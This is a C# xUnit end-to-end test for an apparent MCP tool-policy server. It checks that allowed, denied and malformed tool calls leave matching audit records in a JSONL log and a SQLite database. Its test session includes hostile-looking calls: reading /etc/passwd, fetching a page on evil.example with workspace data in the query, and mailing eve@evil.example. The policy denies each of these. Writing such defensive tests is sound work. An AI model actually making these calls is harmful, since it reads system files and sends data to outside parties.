using System.Text;
using System.Text.Json;
using ModelContextProtocol.Protocol;
using TypedTools.Audit;
using TypedTools.Audit.Sqlite;
using TypedTools.Policy;
using TypedTools.Tests.Harness;
using Xunit;

namespace TypedTools.Tests.Audit;

/// <summary>samples/Workspace.Server with --audit to both formats: every call of a session, allowed, denied or malformed, has exactly its records in both.</summary>
public sealed class AuditEndToEndTests
{
    [Fact]
    public async Task Every_call_over_stdio_has_exactly_its_records_in_both_sinks()
    {
        CancellationToken ct = TestContext.Current.CancellationToken;
        string directory = Directory.CreateTempSubdirectory("typedtools-audit-e2e-").FullName;
        string log = Path.Join(directory, "audit.jsonl"), database = Path.Join(directory, "audit.db");
        var person = Confirmations.Yes();

        // (tool, arguments, the records it must leave as "type/decision/status/reason")
        (string Tool, string Arguments, string[] Records)[] session =
        [
            ("write_file", """{"path":"notes.md","content":"hello"}""", ["decision/pending/pending/policy.confirmation_required", "decision/allow//", "outcome//ok/"]),
            ("read_file", """{"path":"notes.md"}""", ["decision/allow//", "outcome//ok/"]),
            ("read_file", """{"path":"notes.md","mode":"raw"}""", ["decision/deny/denied/argument.unknown_field"]),
            ("read_file", """{"path":"/etc/passwd"}""", ["decision/deny/denied/policy.path_outside_root"]),
            ("fetch_page", """{"url":"https://evil.example/?q=notes"}""", ["decision/deny/denied/policy.domain_not_allowed"]),
            ("send_message", """{"message":{"to":"eve@evil.example","subject":"s","body":"hello"}}""", ["decision/deny/denied/policy.flow_exfiltration"]),
            ("delete_file", """{"path":"missing.md"}""", ["decision/pending/pending/policy.confirmation_required", "decision/allow//", "outcome//error/"]),
        ];

        await using (WorkspaceServerProcess server = await WorkspaceServerProcess.StartAsync(person.ClientOptions(), "--audit", log, "--audit", database))
        {
            foreach ((string tool, string arguments, _) in session)
            {
                await server.Client.CallToolAsync(tool, Json.Args(arguments), cancellationToken: ct);
            }
        }

        var jsonLines = AuditLogReader.ReadJsonLines(log).ToList();
        var rows = SqliteAuditReader.ReadLines(database).ToList();
        Assert.Equal(jsonLines.Select(l => Encoding.UTF8.GetString(l.Bytes)), rows.Select(l => Encoding.UTF8.GetString(l.Bytes)));
        Assert.True(AuditVerifier.Verify(jsonLines).Valid);
        Assert.True(AuditVerifier.Verify(rows).Valid);

        List<JsonElement> records = jsonLines.Select(l => JsonDocument.Parse(l.Bytes).RootElement).ToList();
        string Describe(JsonElement r) => string.Join("/", new[] { "type", "decision", "status", "reason" }
            .Select(f => r.TryGetProperty(f, out JsonElement v) ? v.GetString() : ""));
        Assert.Equal(session.SelectMany(c => c.Records), records.Select(Describe));
        // Each record names its tool, and the session's calls appear in order.
        Assert.Equal(session.SelectMany(c => c.Records.Select(_ => c.Tool)), records.Select(r => r.GetProperty("tool").GetString()));
        // Canonical arguments: the workspace path as the tool received it.
        string written = records[1].GetProperty("arguments").GetProperty("path").GetString()!;
        Assert.True(Path.IsPathRooted(written) && written.EndsWith("/notes.md", StringComparison.Ordinal), written);
        Assert.Equal("accepted", records[1].GetProperty("confirmation").GetString());
        Assert.Equal("shape", records[5].GetProperty("argumentsKind").GetString());
        Directory.Delete(directory, recursive: true);
    }
}
